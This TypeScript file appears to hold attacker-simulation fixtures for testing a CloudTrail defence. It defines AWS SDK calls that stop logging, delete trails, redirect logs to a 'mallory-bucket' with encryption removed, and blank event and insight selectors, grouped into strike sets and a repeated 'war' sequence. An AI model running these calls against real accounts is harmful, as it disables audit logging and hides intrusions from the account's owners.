import {
  type CloudTrailClient,
  DeleteTrailCommand,
  PutEventSelectorsCommand,
  PutInsightSelectorsCommand,
  StopLoggingCommand,
  UpdateTrailCommand,
} from '@aws-sdk/client-cloudtrail';

/** One thing that Mallory does to one trail: one call. */
export type Blow = (mallory: CloudTrailClient, trail: string) => Promise<unknown>;

const stop: Blow = (mallory, Name) => mallory.send(new StopLoggingCommand({ Name }));

const remove: Blow = (mallory, Name) => mallory.send(new DeleteTrailCommand({ Name }));

const redirect: Blow = (mallory, Name) =>
  mallory.send(new UpdateTrailCommand({ Name, S3BucketName: 'mallory-bucket', KmsKeyId: '' }));

const blind: Blow = (mallory, TrailName) =>
  mallory.send(
    new PutEventSelectorsCommand({
      TrailName,
      EventSelectors: [{ ReadWriteType: 'ReadOnly', IncludeManagementEvents: false, DataResources: [] }],
    }),
  );

const calm: Blow = (mallory, TrailName) =>
  mallory.send(new PutInsightSelectorsCommand({ TrailName, InsightSelectors: [] }));

/** What Mallory does to each trail of an account: account after account another one of these. */
export const STRIKES = {
  stop: [stop],
  delete: [remove],
  weaken: [redirect, blind],
  everything: [redirect, blind, calm, stop],
} as const satisfies Record<string, readonly Blow[]>;

export type StrikeName = keyof typeof STRIKES;

/** What CloudTrail refuses: there is no such trail. */
export const REFUSED: readonly Blow[] = [
  (mallory) => mallory.send(new StopLoggingCommand({ Name: 'no-such-trail' })),
];

/** What she does in a tug of war, over and over. */
export const WAR: readonly Blow[] = [stop, redirect, blind, remove];
